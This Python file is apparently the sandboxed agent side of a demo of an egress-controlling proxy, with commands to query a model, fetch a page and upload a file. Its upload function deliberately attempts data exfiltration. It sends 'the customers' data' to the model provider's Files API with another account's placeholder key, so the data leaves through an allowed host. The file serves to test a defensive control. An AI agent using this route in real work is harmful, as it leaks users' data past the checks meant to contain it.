"""The sandboxed side of the demo: a little agent that knows nothing of the proxy.

It is an ordinary client. Proxy, CA and key come from its environment, as for every tool in a sandbox.
"""

import json
import os
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from http.client import HTTPResponse

TIMEOUT = 15
OWN_KEY = "sk-ant-api03-" + "A" * 40  # somebody else's account, brought along to carry files away

# Not `urlopen`: this opener reads the environment at this moment and keeps nothing between calls.
_open = urllib.request.build_opener().open


def ask(question: str) -> None:
    """Call the model and show its words as they arrive."""
    body = {
        "model": "claude-demo",
        "max_tokens": 100,
        "stream": True,
        "messages": [{"role": "user", "content": question}],
    }
    with _post("https://api.anthropic.com/v1/messages", body, os.environ["ANTHROPIC_API_KEY"]) as response:
        show("model: ")
        for line in response:
            if line.startswith(b"data: "):
                tell(json.loads(line[6:]))


def tell(event: dict[str, object]) -> None:
    """Show one event of the Messages API's stream."""
    if event["type"] == "content_block_delta":
        show(event["delta"]["text"])  # type: ignore[index]
    elif event["type"] == "message_delta":
        show(f"\nusage: {event['usage']['output_tokens']} output tokens\n")  # type: ignore[index]


def fetch(url: str) -> None:
    """Fetch a page."""
    with _open(url, timeout=TIMEOUT) as response:
        show(f"{response.status} {response.reason}\n")


def upload() -> None:
    """Carry a file out through the model's own host, with a key of another account."""
    with _post("https://api.anthropic.com/v1/files", {"file": "the customers' data"}, OWN_KEY) as response:
        show(f"{response.status} {response.reason}\n")


def show(text: str) -> None:
    sys.stdout.write(text)
    sys.stdout.flush()


def _post(url: str, body: object, key: str) -> HTTPResponse:
    headers = {"content-type": "application/json", "anthropic-version": "2023-06-01", "x-api-key": key}
    request = urllib.request.Request(url, json.dumps(body).encode(), headers)
    response: HTTPResponse = _open(request, timeout=TIMEOUT)
    return response


def _refused(error: urllib.error.HTTPError) -> None:
    """Show what an agent sees of a refusal: the status line, then what the body says."""
    show(f"{error.code} {error.reason}\n")
    told = json.loads(error.read())
    for key in ("detail", "hint", "guidance"):
        show(f"{key}: {told[key]}\n")


def main() -> int:
    commands: dict[str, Callable[..., None]] = {"ask": ask, "fetch": fetch, "upload": upload}
    name, *arguments = sys.argv[1:]
    try:
        commands[name](*arguments)
    except urllib.error.HTTPError as error:
        _refused(error)
        return 3
    except OSError as error:
        show(f"{type(error).__name__}: {error}\n")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
